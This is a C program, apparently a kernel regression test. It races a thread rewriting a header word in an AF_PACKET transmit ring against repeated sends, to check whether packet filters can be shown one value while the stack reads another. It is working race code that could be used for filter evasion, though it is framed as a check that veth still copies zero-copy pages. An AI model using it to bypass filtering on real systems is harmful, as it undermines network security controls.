// tx_ring_race IFNAME FRAME_HEX OFFSET OTHER COUNT: sends FRAME (an Ethernet
// frame, in hex) COUNT times from an AF_PACKET transmit ring (PACKET_TX_RING,
// TPACKET_V2) on IFNAME, while a second thread keeps rewriting the 16-bit
// big-endian word at OFFSET in the ring's copy between the frame's own value
// and OTHER.
//
// The kernel builds a ring frame's skb with every byte past the link header
// in page fragments of the ring itself (tpacket_fill_skb: zero copy), which
// this process may write at any time: a filter that judged those bytes where
// they are could be shown one value while the stack after it reads another.
// The skb is marked zero copy, so veth_xmit copies the pages before the host
// side sees the frame; this is the attack that would show it stopped doing so.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

// One slot, a page: the kernel takes the ring's slots in turn, and one
// slot gives the rewriting thread one address to write.
#define RING_SIZE 4096
#define FRAME_SIZE RING_SIZE

static atomic_int stop;
// Set once the rewriting thread runs: the sends wait for it, so that a
// burst never goes out while the thread has not been scheduled yet.
static atomic_int rewriting;
// Counts the rewriting thread's writes: each send waits for it to move, so
// that a thread descheduled for a whole burst (a busy host, both threads on
// one CPU) cannot leave every frame with the frame's own value.
static atomic_uint rewrites;
static volatile uint16_t *word;
static uint16_t values[2];

// Alternates the two values, each held for a few hundred nanoseconds: long
// enough to be read whole, short against the time a frame takes from the
// filter to the receiver.
static void *rewrite(void *unused) {
    (void)unused;
    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++) {
        *word = values[i & 1];
        atomic_fetch_add_explicit(&rewrites, 1, memory_order_release);
        if (i == 1)
            atomic_store_explicit(&rewriting, 1, memory_order_release);
        for (int spin = 0; spin < 64; spin++)
            __builtin_ia32_pause();
    }
    return NULL;
}

static int unhex(const char *hex, uint8_t *out, size_t cap) {
    size_t n = strlen(hex);
    if (n % 2 || n / 2 > cap)
        return -1;
    for (size_t i = 0; i < n / 2; i++) {
        unsigned byte;
        if (sscanf(hex + 2 * i, "%2x", &byte) != 1)
            return -1;
        out[i] = (uint8_t)byte;
    }
    return (int)(n / 2);
}

// Waits until the rewriting thread has written since `*seen`, yielding the
// CPU to it; -1 after a second without a write.
static int wait_rewritten(unsigned *seen) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    unsigned current;
    while ((current = atomic_load_explicit(&rewrites, memory_order_acquire)) == *seen) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec > 1)
            return -1;
        sched_yield();
    }
    *seen = current;
    return 0;
}

static int wait_available(volatile struct tpacket2_hdr *h) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    while (h->tp_status != TP_STATUS_AVAILABLE) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec > 1)
            return -1;
        __builtin_ia32_pause();
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: %s IFNAME FRAME_HEX OFFSET OTHER COUNT\n", argv[0]);
        return 2;
    }
    uint8_t frame[FRAME_SIZE];
    int len = unhex(argv[2], frame, FRAME_SIZE - TPACKET2_HDRLEN);
    long offset = strtol(argv[3], NULL, 10);
    long count = strtol(argv[5], NULL, 10);
    if (len < 0 || offset < 14 || offset + 2 > len || count <= 0) {
        printf("tx_ring_race=error:arguments\n");
        return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    int version = TPACKET_V2;
    struct tpacket_req req = {
        .tp_block_size = RING_SIZE,
        .tp_block_nr = 1,
        .tp_frame_size = FRAME_SIZE,
        .tp_frame_nr = RING_SIZE / FRAME_SIZE,
    };
    struct sockaddr_ll at = {
        .sll_family = AF_PACKET,
        .sll_ifindex = (int)if_nametoindex(argv[1]),
    };
    if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof version) ||
        setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &req, sizeof req) ||
        bind(fd, (struct sockaddr *)&at, sizeof at)) {
        printf("tx_ring_race=error:%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
        return 1;
    }
    uint8_t *ring = mmap(NULL, RING_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (ring == MAP_FAILED) {
        printf("tx_ring_race=error:mmap\n");
        return 1;
    }
    volatile struct tpacket2_hdr *slot = (struct tpacket2_hdr *)ring;
    uint8_t *data = ring + TPACKET_ALIGN(sizeof(struct tpacket2_hdr));
    memcpy(data, frame, (size_t)len);
    word = (volatile uint16_t *)(data + offset);
    values[0] = *word;
    values[1] = htons((uint16_t)strtol(argv[4], NULL, 10));
    pthread_t rewriter;
    if (pthread_create(&rewriter, NULL, rewrite, NULL)) {
        printf("tx_ring_race=error:thread\n");
        return 1;
    }
    while (!atomic_load_explicit(&rewriting, memory_order_acquire))
        __builtin_ia32_pause();
    long sent = 0;
    const char *error = NULL;
    unsigned seen = 0;
    for (long i = 0; i < count; i++) {
        if (wait_available(slot)) {
            error = "slot never returned";
            break;
        }
        if (wait_rewritten(&seen)) {
            error = "rewriting thread stalled";
            break;
        }
        slot->tp_len = (uint32_t)len;
        slot->tp_status = TP_STATUS_SEND_REQUEST;
        if (send(fd, NULL, 0, 0) < 0) {
            error = strerrorname_np(errno);
            break;
        }
        sent++;
    }
    atomic_store(&stop, 1);
    pthread_join(rewriter, NULL);
    printf("tx_ring_race=sent:%ld%s%s\n", sent, error ? " error:" : "", error ? error : "");
    return 0;
}
